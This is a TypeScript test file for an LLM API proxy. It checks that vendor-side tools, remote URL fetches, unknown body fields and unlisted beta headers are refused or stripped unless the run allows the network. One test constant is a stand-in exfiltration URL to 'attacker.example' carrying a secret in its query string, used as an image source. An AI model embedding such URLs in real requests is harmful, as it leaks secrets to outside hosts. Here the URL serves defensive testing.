/**
 * The proxy forwards an allow-list (issue 27): known body fields and `anthropic-beta` values only,
 * client-side tools only. A server-side tool (web search and fetch, code execution, MCP connectors,
 * computer use, file search, image generation, …) or a URL the vendor would fetch is refused with a
 * 400 in the protocol's shape, before anything reaches the upstream, unless the run allows the
 * network; then it is forwarded. Evidence: the requests the fake provider received.
 */
import Anthropic from '@anthropic-ai/sdk';
import OpenAI from 'openai';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Store } from '../../src/store/index.js';
import { openTestStore } from '../helpers/db.js';
import { type Harness, startHarness } from './harness.js';

let store: Store;
let closed: Harness;
let open: Harness;
const agents = { cc: 'claude-proxied', oc: 'chat-proxied', rc: 'resp-proxied' };

beforeAll(async () => {
  store = await openTestStore();
  closed = await startHarness(store, { agents });
  open = await startHarness(store, { agents, run: { allowNetwork: true } });
});
afterAll(async () => {
  await closed?.close();
  await open?.close();
  await store?.close();
});

type Route = '/v1/messages' | '/v1/chat/completions' | '/v1/responses';
const AGENT: Record<Route, string> = {
  '/v1/messages': 'cc',
  '/v1/chat/completions': 'oc',
  '/v1/responses': 'rc',
};
const BASE: Record<Route, Record<string, unknown>> = {
  '/v1/messages': { model: 'x', max_tokens: 5, messages: [{ role: 'user', content: 'hi' }] },
  '/v1/chat/completions': { model: 'x', messages: [{ role: 'user', content: 'hi' }] },
  '/v1/responses': { model: 'x', input: 'hi' },
};

async function post(
  h: Harness,
  route: Route,
  body: Record<string, unknown>,
  headers: Record<string, string> = {},
) {
  const token = h.token(AGENT[route]);
  const auth: Record<string, string> =
    route === '/v1/messages' ? { 'x-api-key': token } : { authorization: `Bearer ${token}` };
  const res = await fetch(`${h.proxy.url}${route}`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', ...auth, ...headers },
    body: JSON.stringify({ ...BASE[route], ...body }),
  });
  return { status: res.status, json: (await res.json()) as Record<string, unknown> };
}

const EXFIL = 'https://attacker.example/x.png?secret=s3cr3t';

/** [what, route, body fields, a string of the request that reaches the upstream with the network] */
const VENDOR_SIDE: [string, Route, Record<string, unknown>, string][] = [
  [
    'Anthropic web search',
    '/v1/messages',
    { tools: [{ type: 'web_search_20250305', name: 'web_search', max_uses: 3 }] },
    'web_search_20250305',
  ],
  [
    'Anthropic web fetch',
    '/v1/messages',
    { tools: [{ type: 'web_fetch_20250910', name: 'web_fetch' }] },
    'web_fetch_20250910',
  ],
  [
    'Anthropic code execution',
    '/v1/messages',
    { tools: [{ type: 'code_execution_20250825', name: 'code_execution' }] },
    'code_execution_20250825',
  ],
  [
    'Anthropic computer use',
    '/v1/messages',
    {
      tools: [
        { type: 'computer_20250124', name: 'computer', display_width_px: 1024, display_height_px: 768 },
      ],
    },
    'computer_20250124',
  ],
  [
    'an Anthropic MCP connector (mcp_servers)',
    '/v1/messages',
    { mcp_servers: [{ type: 'url', url: 'https://mcp.example/sse', name: 'x' }] },
    'mcp.example',
  ],
  [
    'an Anthropic MCP toolset',
    '/v1/messages',
    { tools: [{ type: 'mcp_toolset', mcp_server_name: 'x' }] },
    'mcp_toolset',
  ],
  ['an Anthropic code-execution container', '/v1/messages', { container: 'container_1' }, 'container_1'],
  [
    'an Anthropic image by URL',
    '/v1/messages',
    { messages: [{ role: 'user', content: [{ type: 'image', source: { type: 'url', url: EXFIL } }] }] },
    EXFIL,
  ],
  ['Chat web_search_options', '/v1/chat/completions', { web_search_options: {} }, 'web_search_options'],
  [
    'a Chat image by URL',
    '/v1/chat/completions',
    { messages: [{ role: 'user', content: [{ type: 'image_url', image_url: { url: EXFIL } }] }] },
    EXFIL,
  ],
  ['Responses web_search', '/v1/responses', { tools: [{ type: 'web_search' }] }, '"web_search"'],
  [
    'Responses file_search',
    '/v1/responses',
    { tools: [{ type: 'file_search', vector_store_ids: ['vs_1'] }] },
    'file_search',
  ],
  [
    'Responses code_interpreter',
    '/v1/responses',
    { tools: [{ type: 'code_interpreter', container: { type: 'auto' } }] },
    'code_interpreter',
  ],
  [
    'a Responses remote MCP server',
    '/v1/responses',
    { tools: [{ type: 'mcp', server_label: 'x', server_url: 'https://mcp.example' }] },
    'mcp.example',
  ],
  [
    'Responses image_generation',
    '/v1/responses',
    { tools: [{ type: 'image_generation' }] },
    'image_generation',
  ],
  [
    'a web search inside a Responses namespace',
    '/v1/responses',
    { tools: [{ type: 'namespace', name: 'ns', tools: [{ type: 'web_search' }] }] },
    '"web_search"',
  ],
  [
    'a Responses image by URL',
    '/v1/responses',
    { input: [{ role: 'user', content: [{ type: 'input_image', image_url: EXFIL }] }] },
    EXFIL,
  ],
  [
    'a Responses file by URL',
    '/v1/responses',
    { input: [{ role: 'user', content: [{ type: 'input_file', file_url: EXFIL }] }] },
    EXFIL,
  ],
];

describe('vendor-side tools and fetches', () => {
  for (const [what, route, body, marker] of VENDOR_SIDE) {
    it(`${what}: 400 without the network, nothing forwarded; forwarded with it`, async () => {
      const before = closed.fake.requests().length;
      const refused = await post(closed, route, body);
      expect(refused.status).toBe(400);
      const error = refused.json.error as { type: string; message: string };
      if (route === '/v1/messages') expect(refused.json.type).toBe('error');
      expect(error.type).toBe('invalid_request_error');
      expect(error.message).toContain('--allow-network');
      expect(closed.fake.requests()).toHaveLength(before);

      const seen = open.fake.requests().length;
      const allowed = await post(open, route, body);
      expect(JSON.stringify(allowed.json)).not.toContain('--allow-network');
      const received = open.fake.requests().slice(seen);
      expect(received).toHaveLength(1);
      expect(JSON.stringify(received[0]?.body)).toContain(marker);
    });
  }

  it('the SDKs (what a CLI is built on) show the refusal, and do not retry it', async () => {
    const before = closed.fake.requests().length;
    const anthropic = new Anthropic({ apiKey: closed.token('cc'), baseURL: closed.proxy.url, maxRetries: 3 });
    const failed = await anthropic.messages
      .create({
        model: 'x',
        max_tokens: 5,
        messages: [{ role: 'user', content: 'hi' }],
        tools: [{ type: 'web_search_20250305', name: 'web_search' }],
      })
      .catch((e: unknown) => e);
    expect(failed).toBeInstanceOf(Anthropic.BadRequestError);
    expect((failed as Error).message).toContain("server-side tool 'web_search' (type web_search_20250305)");
    const openai = new OpenAI({
      apiKey: closed.token('rc'),
      baseURL: `${closed.proxy.url}/v1`,
      maxRetries: 3,
    });
    const failedToo = await openai.responses
      .create({ model: 'x', input: 'hi', tools: [{ type: 'web_search' }], stream: true })
      .catch((e: unknown) => e);
    expect(failedToo).toBeInstanceOf(OpenAI.BadRequestError);
    expect((failedToo as Error).message).toContain('server-side tool of type web_search');
    expect(closed.fake.requests()).toHaveLength(before);
  });

  it('client-side tools pass without the network (functions, custom, namespaces of them, a data: image)', async () => {
    const seen = closed.fake.requests().length;
    const fn = { type: 'function', name: 'edit', parameters: { type: 'object' } };
    const responses = await post(closed, '/v1/responses', {
      tools: [
        fn,
        { type: 'custom', name: 'apply_patch' },
        { type: 'namespace', name: 'mcp__colony', tools: [fn] },
      ],
      input: [{ role: 'user', content: [{ type: 'input_image', image_url: 'data:image/png;base64,AAAA' }] }],
    });
    expect(responses.status).toBe(200);
    const chat = await post(closed, '/v1/chat/completions', {
      tools: [{ type: 'function', function: { name: 'edit', parameters: { type: 'object' } } }],
    });
    expect(chat.status).toBe(200);
    const messages = await post(closed, '/v1/messages', {
      tools: [
        { name: 'edit', input_schema: { type: 'object' } },
        { type: 'custom', name: 'x', input_schema: {} },
      ],
    });
    expect(messages.status).toBe(200);
    expect(closed.fake.requests()).toHaveLength(seen + 3);
  });
});

describe('unknown fields and headers', () => {
  const headers = {
    'anthropic-beta':
      'claude-code-20250219,interleaved-thinking-2025-05-14,web-fetch-2025-09-10,mcp-client-2025-04-04,made-up-2099-01-01',
    'openai-beta': 'responses=v1',
    'x-colony-evil': 'yes',
    'anthropic-dangerous-direct-browser-access': 'true',
  };
  const names = (h: Harness, from: number) => {
    const [q] = h.fake.requests().slice(from);
    return { keys: Object.keys(q?.body as object).sort(), headers: q?.headers ?? {} };
  };

  it('Anthropic: unknown fields dropped, anthropic-beta kept to its allow-list', async () => {
    const from = closed.fake.requests().length;
    const res = await post(
      closed,
      '/v1/messages',
      {
        temperature: 0.5,
        metadata: { user_id: 'u' },
        speed: 'fast',
        inference_geo: 'us',
        betas: ['x'],
        unknown: 1,
      },
      headers,
    );
    expect(res.status).toBe(200);
    const seen = names(closed, from);
    expect(seen.keys).toEqual(['max_tokens', 'messages', 'metadata', 'model', 'temperature']);
    expect(seen.headers['anthropic-beta']).toBe('claude-code-20250219,interleaved-thinking-2025-05-14');
    for (const name of ['openai-beta', 'x-colony-evil', 'anthropic-dangerous-direct-browser-access'])
      expect(seen.headers[name], name).toBeUndefined();

    // With the network, the betas of server-side tools pass too; an unknown one never does.
    const again = open.fake.requests().length;
    expect((await post(open, '/v1/messages', {}, headers)).status).toBe(200);
    expect(names(open, again).headers['anthropic-beta']).toBe(
      'claude-code-20250219,interleaved-thinking-2025-05-14,web-fetch-2025-09-10,mcp-client-2025-04-04',
    );
  });

  it('an anthropic-beta of nothing known is not sent at all', async () => {
    const from = closed.fake.requests().length;
    await post(closed, '/v1/messages', {}, { 'anthropic-beta': 'files-api-2025-04-14' });
    expect(names(closed, from).headers['anthropic-beta']).toBeUndefined();
  });

  it("Responses: Codex's fields pass, background runs, stored prompts and service tiers do not", async () => {
    const from = closed.fake.requests().length;
    const res = await post(
      closed,
      '/v1/responses',
      {
        store: false,
        include: ['reasoning.encrypted_content'],
        prompt_cache_key: 'k',
        client_metadata: { a: 'b' },
        parallel_tool_calls: true,
        reasoning: { summary: 'auto' },
        background: true,
        prompt: { id: 'pmpt_1' },
        service_tier: 'priority',
        unknown: 1,
      },
      headers,
    );
    expect(res.status).toBe(200);
    const seen = names(closed, from);
    expect(seen.keys).toEqual([
      'client_metadata',
      'include',
      'input',
      'model',
      'parallel_tool_calls',
      'prompt_cache_key',
      'reasoning',
      'store',
    ]);
    for (const name of ['openai-beta', 'x-colony-evil', 'anthropic-beta'])
      expect(seen.headers[name], name).toBeUndefined();
  });

  it('Chat: unknown fields dropped (audio, stored completions, service tiers)', async () => {
    const from = closed.fake.requests().length;
    const res = await post(closed, '/v1/chat/completions', {
      temperature: 0,
      max_completion_tokens: 9,
      audio: { voice: 'alloy', format: 'wav' },
      modalities: ['text', 'audio'],
      store: true,
      service_tier: 'priority',
      unknown: 1,
    });
    expect(res.status).toBe(200);
    expect(names(closed, from).keys).toEqual(['max_completion_tokens', 'messages', 'model', 'temperature']);
  });
});

describe('tokens of agents no longer hosted', () => {
  it('a run that says which agents are hosted: the others get 401, nothing forwarded', async () => {
    const hosted = new Set(['cc']);
    const h = await startHarness(store, { agents, run: { hosted: (agent) => hosted.has(agent) } });
    try {
      const token = h.token('cc');
      const call = () =>
        new Anthropic({ apiKey: token, baseURL: h.proxy.url, maxRetries: 2 }).messages
          .create({ model: 'x', max_tokens: 5, messages: [{ role: 'user', content: 'hi' }] })
          .catch((e: unknown) => e);
      expect(await call()).toMatchObject({ type: 'message' });
      hosted.delete('cc');
      const refused = await call();
      expect(refused).toBeInstanceOf(Anthropic.AuthenticationError);
      expect((refused as Error).message).toContain("agent 'cc' is not running here now");
      expect(h.fake.requests()).toHaveLength(1);
    } finally {
      await h.close();
    }
  });
});
